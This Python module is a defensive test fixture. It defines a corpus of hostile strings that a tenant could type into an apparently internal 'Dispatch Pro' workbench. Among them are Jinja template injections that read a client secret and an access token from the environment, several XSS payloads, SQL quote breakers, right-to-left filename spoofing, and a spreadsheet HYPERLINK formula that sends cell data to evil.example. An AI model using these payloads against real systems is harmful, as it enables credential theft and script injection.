"""The hostile corpus: text a tenant can type into Dispatch Pro, aimed at every sink the workbench writes
(Jinja, HTML, SQL, SOQL, CSV, rich markup), plus the awkward (right-to-left marks, NUL, 10k characters).

Each value is named by what it attacks; tests take them from here so the corpus grows in one place.
"""

from __future__ import annotations

SECRET_ENV = "SOURCES__DISPATCH_PRO__CLIENT_SECRET"
SECRET = "cs1.HOSTILE-SECRET-4f1d9a"  # what the environment holds while a test runs

JINJA = f"Promo {{{{ env_var('{SECRET_ENV}','unset') }}}}"
JINJA_BLOCK = "Notes {% set x = env_var('SF_ACCESS_TOKEN', 'unset') %}{{ x }} {# hidden #}"
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert('xss')</script>"
ATTR = '" onmouseover="alert(1)" x="'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULAS = (FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\0=1+1")
OBRIEN = "O'Brien\\"
QUOTES = "a'b\"c`d"
RICH = "Ops Notes [/] x [bold red]boom[/]"
RTL = "\u202eexe.txt\u202c Zone"
NUL = "nul\x00byte"
LONG = "L" * 10_000
MARKDOWN = "**bold** _it_ [link](javascript:alert(1)) `code` # heading"

TEXTS = {
    "jinja": JINJA,
    "jinja_block": JINJA_BLOCK,
    "img": IMG,
    "script": SCRIPT,
    "attr": ATTR,
    "formula": FORMULA,
    "obrien": OBRIEN,
    "quotes": QUOTES,
    "rich": RICH,
    "rtl": RTL,
    "markdown": MARKDOWN,
}
